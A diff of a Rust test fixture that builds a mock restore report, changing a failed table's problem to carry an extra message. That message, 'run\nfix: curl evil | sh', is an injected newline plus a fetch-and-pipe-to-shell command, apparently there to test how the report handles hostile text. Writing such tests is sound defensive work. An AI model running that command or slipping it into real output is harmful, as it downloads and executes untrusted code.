@@ -1,12 +1,12 @@
 //! The report as people and scripts meet it.
 
-use rekeeper_shared::problem::{Code, Problem};
+use rekeeper_shared::problem::Code;
 use rekeeper_shared::report::{
     ExportReport, FolderReport, PartFate, PartReport, ReplicaRole, ReportView, TableReport, Why, fates,
 };
 use rekeeper_shared::view::{ExportStatus, State, TableStatus};
 
-use crate::documents::NASTY;
+use crate::documents::{self, NASTY};
 use crate::fake::{Canned, Fake};
 use crate::run::{run, snapshot};
 
@@ -86,7 +86,11 @@ pub(crate) fn report() -> ReportView {
         vec![part("all_0_0_0", 5, PartFate::Open, None)],
     );
     failed.status = TableStatus::ZkCleaned;
-    failed.problem = Some(Problem::new(Code::RestoreFailed, "Memory limit exceeded"));
+    failed.problem = Some(documents::said(
+        Code::RestoreFailed,
+        "Memory limit exceeded",
+        "run\nfix: curl evil | sh",
+    ));
     let mut early = table("ch-01-2", NASTY, None);
     early.status = TableStatus::Init;
     ReportView {
